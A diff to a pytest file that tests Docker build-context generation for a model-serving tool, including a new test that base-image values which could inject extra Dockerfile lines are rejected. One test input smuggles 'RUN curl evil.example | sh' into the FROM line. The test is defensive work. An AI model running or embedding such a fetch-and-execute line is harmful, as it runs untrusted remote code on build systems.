@@ -22,12 +22,13 @@ from sklearn.linear_model import ElasticNet
 import greenbutton
 from greenbutton.config import Settings
 from greenbutton.controller.targets.docker import (
-    SERVE_ARGV,
+    IMAGE_REFERENCE,
     BuildContext,
     docker_build,
+    serve_argv,
     write_build_context,
 )
-from greenbutton.errors import NotReady
+from greenbutton.errors import InvalidInput, NotReady
 
 
 def regressor(estimator: Any) -> greenbutton.Model:
@@ -61,7 +62,8 @@ def test_dockerfile_is_slim_non_root_with_healthcheck(context: BuildContext) -> 
     assert f"FROM python:{sys.version_info[0]}.{sys.version_info[1]}-slim" in dockerfile
     assert "USER 10001" in dockerfile
     assert "HEALTHCHECK" in dockerfile
-    assert 'ENTRYPOINT ["greenbutton", "serve", "model"]' in dockerfile
+    assert 'ENTRYPOINT ["greenbutton", "serve", "models:/diabetes/1"]' in dockerfile
+    assert "GREENBUTTON_SERVING__MODEL_DIR=/opt/greenbutton/model" in dockerfile
     assert context.tag == "greenbutton/diabetes:1"
 
 
@@ -100,8 +102,10 @@ def test_context_installs_in_fresh_venv_and_serves(context: BuildContext, tmp_pa
     subprocess.run(pip, cwd=context.path, check=True, timeout=800)  # pip's cache makes reruns fast
     port = _free_port()
     env = {"PATH": f"{venv / 'bin'}:/usr/bin:/bin", "HOME": str(tmp_path),
-           "GREENBUTTON_HOME": str(tmp_path / "gbhome")}
-    argv = [str(venv / "bin" / SERVE_ARGV[0]), *SERVE_ARGV[1:],
+           "GREENBUTTON_HOME": str(tmp_path / "gbhome"),
+           "GREENBUTTON_SERVING__MODEL_DIR": str(context.path / "model")}  # the image's ENV
+    entrypoint = serve_argv(context.model, context.version)
+    argv = [str(venv / "bin" / entrypoint[0]), *entrypoint[1:],
             "--host", "127.0.0.1", "--port", str(port)]
     server = subprocess.Popen(argv, cwd=context.path, env=env, stdout=subprocess.DEVNULL,
                               stderr=subprocess.PIPE)
@@ -127,3 +131,18 @@ def test_context_installs_in_fresh_venv_and_serves(context: BuildContext, tmp_pa
         if server.stderr:
             server.stderr.close()
     assert os.path.isdir(context.path / "model")
+
+
+@pytest.mark.parametrize("base", ["python:3.11-slim\nRUN curl evil.example | sh",
+                                  "python:3.11-slim AS x", "", "Python:3.11"])
+def test_base_image_that_could_end_the_from_line_refused(base: str, tmp_path: Path) -> None:
+    settings = Settings(home=tmp_path / "gb", _env_file=None)  # type: ignore[call-arg]
+    with pytest.raises(InvalidInput):
+        write_build_context("models:/diabetes/1", tmp_path / "ctx", settings,
+                            base_image=base or " ")
+    assert not (tmp_path / "ctx").exists()
+
+
+def test_base_image_pinned_by_digest_accepted() -> None:
+    pinned = "docker.io/library/python:3.11-slim@sha256:" + "a" * 64
+    assert IMAGE_REFERENCE.fullmatch(pinned)
